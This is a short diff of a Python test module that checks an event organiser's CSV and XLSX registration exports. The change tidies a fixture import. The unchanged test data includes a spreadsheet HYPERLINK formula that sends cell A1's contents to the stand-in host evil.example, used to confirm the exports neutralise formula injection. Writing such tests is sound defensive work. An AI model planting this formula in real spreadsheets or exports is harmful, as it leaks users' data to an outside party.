@@ -30,7 +30,6 @@ from events.organiser.models import Organiser
 from events.registration.models import Registration, RegistrationStatus
 from tests.factories import Factory, register
 from tests.organiser.helpers import give_event
-from tests.organiser.test_attendance import console  # noqa: F401  (fixture)
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -112,7 +111,7 @@ async def test_csv_export_is_utf8_with_bom_neutralised_and_complete(
     database: Database,
     organiser: Organiser,
     clock: FrozenClock,
-    console: httpx.AsyncClient,  # noqa: F811
+    console: httpx.AsyncClient,
 ) -> None:
     event = await _hostile_event(make, database, organiser, clock)
     response = await console.get(f"/organiser/events/{event.slug}/registrations.csv")
@@ -145,7 +144,7 @@ async def test_xlsx_export_opens_in_openpyxl_with_strings_never_formulas(
     database: Database,
     organiser: Organiser,
     clock: FrozenClock,
-    console: httpx.AsyncClient,  # noqa: F811
+    console: httpx.AsyncClient,
 ) -> None:
     event = await _hostile_event(make, database, organiser, clock)
     response = await console.get(f"/organiser/events/{event.slug}/registrations.xlsx")
